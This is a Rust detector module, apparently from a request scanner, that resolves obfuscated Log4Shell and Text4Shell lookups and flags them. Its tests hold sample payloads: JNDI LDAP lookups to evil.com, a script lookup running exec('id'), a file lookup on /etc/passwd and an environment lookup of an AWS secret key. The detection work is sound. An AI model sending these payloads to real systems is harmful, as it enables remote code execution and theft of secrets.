//! Log4Shell-style lookups: resolves `${lower:j}`, `${::-j}`,
//! `${env:X:-j}` and nesting the way Log4j would, then looks for `${jndi:`.
//! Each pass is linear; a few passes handle lookups that build new ones.

/// Passes at most (each resolves every innermost lookup).
const MAX_PASSES: usize = 4;

/// Lookups that read data (environment, system properties...) and are used
/// to exfiltrate it.
const DATA_LOOKUPS: &[&str] = &[
    "env:",
    "sys:",
    "java:",
    "ctx:",
    "main:",
    "bundle:",
    "docker:",
    "k8s:",
    "spring:",
    "web:",
    "log4j:",
    "jvmrunargs:",
    "marker:",
    "sd:",
    "map:",
    "event:",
    "base64:",
    "date:",
];

/// Whether the body of a lookup is one of Commons Text's that act: its
/// prefix, then a word (a script engine, a charset, `address`...) that
/// starts with a letter (a shell's `${file:1:3}` is a substring).
fn is_interpolator(compact: &str) -> bool {
    let word_after = |rest: &str, sep: char| {
        rest.split_once(sep).is_some_and(|(w, tail)| {
            w.starts_with(|c: char| c.is_ascii_alphabetic()) && !tail.is_empty()
        })
    };
    if let Some(rest) = compact.strip_prefix("script:") {
        return word_after(rest, ':');
    }
    if let Some(rest) = compact
        .strip_prefix("file:")
        .or_else(|| compact.strip_prefix("url:"))
    {
        return word_after(rest, ':');
    }
    // Lookups that decode or read what is substituted again
    // (`${base64decoder:...}` of a `${script:...}`), or read XML, bundles
    // and the host's names.
    if ["base64decoder:", "xml:", "resourcebundle:", "localhost:"]
        .iter()
        .any(|p| compact.strip_prefix(p).is_some_and(|r| !r.is_empty()))
    {
        return true;
    }
    compact
        .strip_prefix("dns:")
        .is_some_and(|rest| rest.starts_with(|c: char| c.is_ascii_alphabetic()))
}

/// What a value holds.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Lookup {
    /// A `${jndi:...}` lookup after resolution (the text shows it).
    Jndi(String),
    /// Another data lookup (`${env:AWS_SECRET_ACCESS_KEY}`).
    Data(String),
    /// An Apache Commons Text lookup that runs code, reads a file or a URL,
    /// or resolves a name (Text4Shell, CVE-2022-42889):
    /// `${script:javascript:...}`, `${file:utf-8:/etc/passwd}`,
    /// `${url:utf-8:http://...}`, `${dns:address|host}`.
    Interpolator(String),
}

/// Checks a lowercased decoded value.
pub fn check(low: &[u8]) -> Option<Lookup> {
    if !super::normalize::has_pair(low, b'$', b'{') {
        return None;
    }
    let mut cur = String::from_utf8_lossy(&low[..low.len().min(64 * 1024)]).into_owned();
    let mut data = None;
    for _ in 0..MAX_PASSES {
        let (next, found) = resolve(&cur);
        if let Some(f) = found {
            match f {
                Lookup::Jndi(_) | Lookup::Interpolator(_) => return Some(f),
                d => data = data.or(Some(d)),
            }
        }
        if next == cur {
            break;
        }
        cur = next;
    }
    data
}

/// One pass: evaluates innermost `${...}` lookups.
fn resolve(s: &str) -> (String, Option<Lookup>) {
    let mut stack: Vec<String> = vec![String::new()];
    let mut found = None;
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '$' && chars.peek() == Some(&'{') {
            chars.next();
            stack.push(String::new());
            continue;
        }
        if c == '}' && stack.len() > 1 {
            let content = stack.pop().unwrap_or_default();
            let compact: String = content.chars().filter(|c| !c.is_whitespace()).collect();
            let Some(top) = stack.last_mut() else {
                continue;
            };
            if compact.starts_with("jndi:") {
                found = Some(Lookup::Jndi(format!(
                    "${{{}}}",
                    compact.chars().take(80).collect::<String>()
                )));
                top.push_str("${");
                top.push_str(&content);
                top.push('}');
            } else if let Some(i) = compact.find(":-") {
                top.push_str(&compact[i + 2..]);
            } else if let Some(rest) = compact
                .strip_prefix("lower:")
                .or_else(|| compact.strip_prefix("upper:"))
            {
                top.push_str(rest);
            } else {
                if is_interpolator(&compact) {
                    found = Some(Lookup::Interpolator(format!(
                        "${{{}}}",
                        compact.chars().take(80).collect::<String>()
                    )));
                } else if DATA_LOOKUPS.iter().any(|l| compact.starts_with(l)) && found.is_none() {
                    found = Some(Lookup::Data(format!(
                        "${{{}}}",
                        compact.chars().take(80).collect::<String>()
                    )));
                }
                top.push_str("${");
                top.push_str(&content);
                top.push('}');
            }
            continue;
        }
        if let Some(top) = stack.last_mut() {
            top.push(c);
        }
    }
    // Unclosed lookups are kept as they were.
    let mut out = String::new();
    for (i, part) in stack.iter().enumerate() {
        if i > 0 {
            out.push_str("${");
        }
        out.push_str(part);
    }
    (out, found)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn jndi(s: &str) -> bool {
        matches!(check(s.as_bytes()), Some(Lookup::Jndi(_)))
    }

    #[test]
    fn resolves_obfuscations() {
        assert!(jndi("${jndi:ldap://evil.com/a}"));
        assert!(jndi("${${lower:j}ndi:ldap://x}"));
        assert!(jndi("${${::-j}${::-n}${::-d}${::-i}:rmi://x}"));
        assert!(jndi("${${env:nan:-j}ndi${env:nan:-:}ldap://x}"));
        assert!(jndi("owasp ${:1337:-x$}{jndi:ldap://evil.com/webshell}"));
        assert!(jndi("${ jndi : ldap://x}"));
        assert_eq!(
            check(b"${env:aws_secret_access_key}"),
            Some(Lookup::Data("${env:aws_secret_access_key}".into()))
        );
        assert_eq!(check(b"price: ${amount}"), None);
        for t in [
            "${script:javascript:java.lang.runtime.getruntime().exec('id')}",
            "${file:utf-8:/etc/passwd}",
            "${url:utf-8:http://x.example/}",
            "${dns:address|x.example}",
            "${${lower:s}cript:js:1}",
        ] {
            assert!(
                matches!(check(t.as_bytes()), Some(Lookup::Interpolator(_))),
                "{t}"
            );
        }
        for t in [
            "${url}",
            "${file}",
            "${url:0:5}",
            "${file:1:3}",
            "${file.encoding}",
            "${dns:-x}",
            "${script:}",
        ] {
            assert!(
                !matches!(check(t.as_bytes()), Some(Lookup::Interpolator(_))),
                "{t}"
            );
        }
        assert_eq!(check(b"${${${${"), None);
    }
}
